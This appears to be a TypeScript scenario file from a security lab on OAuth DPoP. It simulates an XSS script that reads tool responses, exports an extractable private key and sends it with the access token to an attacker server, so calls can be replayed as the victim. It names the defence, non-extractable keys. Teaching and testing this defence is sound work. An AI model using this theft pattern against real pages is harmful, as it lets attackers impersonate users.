import { importCopiedKey, sendWithKey } from '../../machine/run/attackers-proof.ts';
import { copiedCall } from '../../machine/run/copied-call.ts';
import { keysInMemory } from '../../machine/run/proof-keys.ts';
import {
  attackersServer,
  bringToAttacker,
  exportKey,
  thumbprintIn,
} from '../../machine/run/script-in-page.ts';
import { SPEC } from '../../machine/spec-references.ts';
import { responseOf } from '../../machine/wire/exchange.ts';
import type { Attack } from './attack.ts';
import { bindingOf } from './bound-client.ts';
import { actsAsVictim, TOKEN_REFUSED, toolResponse, VICTIM, whoami } from './stolen-code.ts';

export const exportedKey: Attack = {
  slug: 'exported-key',
  title: 'Exported key',
  threat:
    'A script of the attacker runs in the page (XSS). While the page lives, the script calls tools as the page does, and no server sees a difference. The script wants the private key as well, so that the attacker can go on elsewhere when the page is closed.',
  clause: SPEC.dpopScripts,
  missing: ['non-extractable key'],
  presupposes: ['DPoP'],
  weakened: 'The key of the client is extractable, so every script of the page can copy it.',
  naive: {
    wrong: { file: 'lab/machine/naive-client/extractable-key.ts', name: 'generateExtractableKey' },
    right: { file: 'oauth/dpop-proof.ts', name: 'generateProofKey' },
  },
  harmed: 'The attacker calls tools as the victim from a machine of their own, and no longer needs the page.',
  stoppedBy: ['non-extractable key'],
  note: 'RFC 9449 §11.4 says that a script can use the key of the page, wherever the key is. So the call from the page succeeds in every run of this attack, whatever the defence. If no script can export the key, the theft ends when the page is closed.',
  refusal: { file: 'oauth/dpop-proof.ts', name: 'generateProofKey', line: 'false' },
  steps: [
    { by: 'victim', does: 'Sign in completely' },
    { by: 'attacker', does: 'Run a script in the page that calls a tool and brings you the result' },
    { by: 'attacker', does: 'Let the script export the private key' },
    { by: 'attacker', does: 'Call from your own machine, with the token and with proofs by that key' },
  ],
  async *play({ begin, log, notebook, ...scenario }) {
    const keys = keysInMemory();
    const binding = bindingOf(scenario, keys);
    const victim = begin({ dpop: () => binding, middleware: [attackersServer] });
    await victim.signIn();
    yield;
    const { token } = await copiedCall(victim);
    const result = toolResponse(log.getSnapshot(), 'client', VICTIM);
    await bringToAttacker(victim, (result && responseOf(result)?.body) ?? '');
    notebook.holds('what the script read through the page', (result && responseOf(result)?.body) ?? '');
    notebook.holds('the access token', token);
    yield;
    const pair = await keys.get(thumbprintIn(token));
    if (!pair) throw new Error('The page has no key.');
    const taken = await exportKey(pair);
    await bringToAttacker(victim, taken);
    const stolen = await importCopiedKey(taken);
    if (!stolen) {
      return `The browser did not export the private key: ${taken}. The attacker keeps what the script read through the page: no defence of this list stops a script while the page lives.`;
    }
    notebook.holds('the private key of the page', taken);
    yield;
    await sendWithKey(victim, stolen, whoami(victim), { accessToken: token });
    return TOKEN_REFUSED;
  },
  harm: actsAsVictim,
};
